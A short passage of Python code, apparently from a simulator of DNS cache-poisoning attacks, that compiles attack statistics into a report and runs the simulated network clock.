        r.packets_sent = dict(self.attacker.packets_sent)
        r.plants_per_attempt = [
            {"attempt": w, "qname": q, "plants": n}
            for (w, q), n in sorted(self._plants.items())
        ]
        if self._poisoned_at is not None:
            r.detail.setdefault("poisoned_at", self._poisoned_at)
        return r


def run_attack(net: Network, orchestrator: AttackOrchestrator,
               duration_ms: int) -> AttackReport:
    """Run the scenario clock out and return the finished report."""
    net.run_until(duration_ms)
    return orchestrator.finalize()
